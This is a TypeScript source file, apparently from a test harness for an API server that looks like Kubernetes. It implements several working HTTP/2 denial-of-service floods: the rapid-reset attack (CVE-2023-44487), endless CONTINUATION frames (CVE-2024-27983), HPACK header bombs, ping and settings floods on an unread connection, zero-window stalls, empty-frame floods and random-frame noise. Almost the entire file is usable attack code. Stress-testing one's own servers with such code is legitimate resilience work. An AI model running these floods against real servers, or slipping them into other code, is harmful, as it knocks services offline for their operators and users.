import type { ApiServerAddress } from '../framework/api-server.ts';
import { Connection } from './connection.ts';
import { type Flood, pause, repeat } from './flood.ts';
import { frame, frameTypes, getBlock, literalField, preface, setting, uint32 } from './frames.ts';

const endHeaders = 4;
const endStreamAndHeaders = 5;
const initialWindowSize = 4;

/** Opens an HTTP/2 connection and hands it to `say`, over and over, until the signal. */
function http2Flood(
  name: string,
  say: (connection: Connection, server: ApiServerAddress, signal: AbortSignal) => Promise<void>,
  options: { readonly atOnce?: number; readonly settings?: Uint8Array; readonly isDeaf?: boolean } = {},
): Flood {
  const { atOnce = 4, settings = new Uint8Array(), isDeaf = false } = options;
  return {
    name,
    run: (server, signal) =>
      repeat(atOnce, signal, async () => {
        using connection = await Connection.open(server, signal, { protocol: 'h2', isDeaf });
        if (isDeaf) connection.socket.pause();
        await connection.write(Buffer.concat([preface, frame({ type: frameTypes.settings, payload: settings })]));
        await say(connection, server, signal);
      }),
  };
}

const many = (count: number, make: (index: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));

/** Requests that are called off as soon as they are made (CVE-2023-44487). */
export const rapidReset: Flood = http2Flood('rapid reset', async (connection, { token }, signal) => {
  const block = getBlock('/api/v1/namespaces/default', token);
  for (let stream = 1; !signal.aborted; stream += 200) {
    const requests = many(100, (index) => {
      const id = stream + 2 * index;
      const open = frame({ type: frameTypes.headers, flags: endStreamAndHeaders, stream: id, payload: block });
      return Buffer.concat([open, frame({ type: frameTypes.resetStream, stream: id, payload: uint32(8) })]);
    });
    await connection.write(requests);
    await pause(1, signal);
  }
});

/** A head that never ends (CVE-2024-27983 and others). */
export const continuations: Flood = http2Flood('endless continuations', async (connection, { token }, signal) => {
  await connection.write(frame({ type: frameTypes.headers, stream: 1, payload: getBlock('/api', token) }));
  const more = many(100, (index) =>
    frame({ type: frameTypes.continuation, stream: 1, payload: literalField(`x-${index}`, 'y'.repeat(100)) }),
  );
  while (!signal.aborted) {
    await connection.write(more);
    await pause(1, signal);
  }
});

/** A small head that stands for a large one: one field, remembered, and named thousands of times. */
export const headBombs: Flood = http2Flood('heads that unpack', async (connection, { token }, signal) => {
  const value = Buffer.alloc(120, 'v');
  const remembered = Buffer.concat([Buffer.from([0x40, 1]), Buffer.from('x'), Buffer.from([value.length]), value]);
  for (let stream = 1; !signal.aborted; stream += 2) {
    const repeated = Buffer.alloc(16_000, 0xbe);
    const payload = Buffer.concat([getBlock('/api', token), remembered]);
    await connection.write(
      Buffer.concat([
        frame({ type: frameTypes.headers, flags: 1, stream, payload }),
        many(9, () => frame({ type: frameTypes.continuation, stream, payload: repeated })),
        frame({ type: frameTypes.continuation, flags: endHeaders, stream, payload: repeated }),
      ]),
    );
    await pause(1, signal);
  }
});

/** Frames that each ask for an answer, of which none is read. */
export const pings: Flood = http2Flood(
  'pings and settings without reading',
  async (connection, _, signal) => {
    const asked = many(500, (index) =>
      index % 2 === 0
        ? frame({ type: frameTypes.ping, payload: Buffer.alloc(8) })
        : frame({ type: frameTypes.settings, payload: setting(initialWindowSize, 1000 + index) }),
    );
    while (!signal.aborted) await connection.write(asked);
  },
  { isDeaf: true },
);

/** Answers that nobody lets the server send: large ones, of many streams, with a window of nothing. */
export const zeroWindows: Flood = http2Flood(
  'windows of nothing',
  async (connection, { token }, signal) => {
    const block = getBlock('/openapi/v2', token);
    await connection.write(
      many(250, (index) =>
        frame({ type: frameTypes.headers, flags: endStreamAndHeaders, stream: 1 + 2 * index, payload: block }),
      ),
    );
    await Promise.race([connection.closed, pause(5000, signal)]);
  },
  { settings: setting(initialWindowSize, 0) },
);

/** Frames that say nothing. */
export const emptyFrames: Flood = http2Flood('frames that say nothing', async (connection, { token }, signal) => {
  const payload = getBlock('/api/v1/namespaces/default/configmaps', token);
  await connection.write(frame({ type: frameTypes.headers, flags: endHeaders, stream: 1, payload }));
  const nothing = many(500, (index) => {
    if (index % 3 === 0) return frame({ type: frameTypes.data, stream: 1 });
    if (index % 3 === 1) return frame({ type: frameTypes.priority, stream: 3, payload: Buffer.alloc(5) });
    return frame({ type: frameTypes.windowUpdate, payload: uint32(1) });
  });
  while (!signal.aborted) {
    await connection.write(nothing);
    await pause(1, signal);
  }
});

/** Frames of any kind and content. */
export const http2Noise: Flood = http2Flood('what is no HTTP/2', async (connection, _, signal) => {
  while (!signal.aborted) {
    const payload = Buffer.from(Array.from({ length: Math.floor(Math.random() * 40) }, () => Math.random() * 256));
    const [type, flags, stream] = [Math.random() * 12, Math.random() * 256, Math.random() * 8];
    await connection.write(
      frame({ type: Math.floor(type), flags: Math.floor(flags), stream: Math.floor(stream), payload }),
    );
    await pause(1, signal);
  }
});
